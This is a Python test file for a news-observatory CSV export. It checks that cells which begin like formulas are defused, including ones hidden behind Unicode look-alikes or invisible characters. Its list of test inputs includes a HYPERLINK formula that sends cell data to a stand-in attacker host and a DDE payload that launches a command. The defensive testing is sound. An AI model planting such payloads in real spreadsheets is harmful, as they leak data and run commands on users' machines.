"""The table for spreadsheets: RFC 4180, no formulas, Arabic as it is."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from marsad.observatory.exports import FORMATS, Export
from marsad.observatory.exports.sheet import BOM, COLUMNS, MOST, line, safe
from marsad.observatory.models import Article, Fact, Source
from tests.web.ledger_rows import PROMISE, SECRET, Pier, make_pier
from tests.web.newsroom import add_fact

HOSTILE = [
    "=HYPERLINK(\"https://evil.example/?\"&A1)",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200f=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    "﹦1",
    "−1",
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_what_begins_like_a_formula_is_words(text: str) -> None:
    assert safe(text) == f"'{text}"
    (cell,) = next(csv.reader(io.StringIO(line([text]), newline="")))
    assert cell == f"'{text}"


@pytest.mark.parametrize(
    ("text", "held"),
    [
        ("le quai;=1+1", "le quai;'=1+1"),
        ("x; @A1;\u200f-2", "x; '@A1;\u200f'-2"),
        ('x;"=1+1"', 'x;"\'=1+1"'),
        ("x\t=1", "x\t'=1"),
        ("\t=1", "'\t'=1"),
        ("un;\n\ndeux", "un;\n\ndeux"),
        ("=1;=2", "'=1;'=2"),
    ],
)
def test_nor_does_what_stands_behind_other_separators(text: str, held: str) -> None:
    assert safe(text) == held


@pytest.mark.parametrize("text", ["", " ", "le phare; le môle", "مليار درهم", "a=b", "« + »", "1 000", "'=1"])
def test_other_words_are_left_alone(text: str) -> None:
    assert safe(text) == text


@pytest.mark.parametrize("number", [-3, 0, 2.5, -1e9])
def test_numbers_stay_numbers(number: float) -> None:
    assert safe(number) == number
    assert line([number]) == f"{number}\r\n"


def test_quotes_commas_and_lines_are_kept_within_their_cell() -> None:
    cells = ['a "b", c', "two\r\nlines", "", "نص، آخر"]
    assert line(cells) == '"a ""b"", c","two\r\nlines",,"نص، آخر"\r\n'.replace('"نص، آخر"', "نص، آخر")
    assert next(csv.reader(io.StringIO(line(cells), newline=""))) == cells


def test_no_cell_is_longer_than_spreadsheets_hold_and_none_holds_nothing() -> None:
    assert len(str(safe("x" * 40_000))) == MOST
    assert len(str(safe("=" * 40_000))) == MOST
    assert safe("a\x00b") == "ab"


def table(pier: Pier, *, whole: bool) -> list[dict[str, str]]:
    text = "".join(FORMATS["csv"].lines(Export(pier.dossier, whole=whole, site="https://press.example")))
    assert text.startswith(BOM)
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


@pytest.mark.django_db
def test_a_line_a_fact_with_its_evidence() -> None:
    pier = make_pier(date(2026, 5, 3))
    rows = table(pier, whole=True)
    assert list(rows[0]) == list(COLUMNS)
    assert len(rows) == Fact.objects.count()
    row = next(one for one in rows if one["words"] == PROMISE and one["url"] == pier.french.url)
    assert (row["kind"], row["due"], row["status"]) == ("commitment", "2027", "announced")
    assert (row["who"], row["with_whom"]) == ("Office des phares", "la Ligue du quai")
    assert row["permalink"].startswith(f"https://press.example/fact/{pier.french.capture.key}/commitment/body-")
    assert row["capture"] == pier.french.capture.record_id
    figures = [one for one in rows if one["kind"] == "figure"]
    assert sorted(one["value"] for one in figures) == ["300", "300", "500"]
    assert any(one["words"] == "ملتقى المنارات" for one in rows)


@pytest.mark.django_db
def test_strangers_get_the_facts_within_extracts() -> None:
    pier = make_pier(date(2026, 5, 3))
    assert SECRET in {one["words"] for one in table(pier, whole=True)}
    rows = table(pier, whole=False)
    assert rows
    assert SECRET not in {one["words"] for one in rows}
    assert all(one["prefix"] == one["suffix"] == "" for one in rows)


@pytest.mark.django_db
def test_words_and_names_of_others_are_no_formulas() -> None:
    pier = make_pier(date(2026, 5, 3))
    words = '=HYPERLINK("x") et la suite'
    Article.objects.filter(pk=pier.spanish.pk).update(title="@title", body=words)
    Source.objects.filter(pk=pier.spanish.source_id).update(name="+outlet")
    Fact.objects.filter(article=pier.spanish).delete()
    add_fact(Article.objects.get(pk=pier.spanish.pk), words, "quote", detail={"form": "direct"})
    row = next(one for one in table(pier, whole=True) if one["url"] == pier.spanish.url)
    assert (row["words"], row["title"], row["outlet"]) == (f"'{words}", "'@title", "'+outlet")
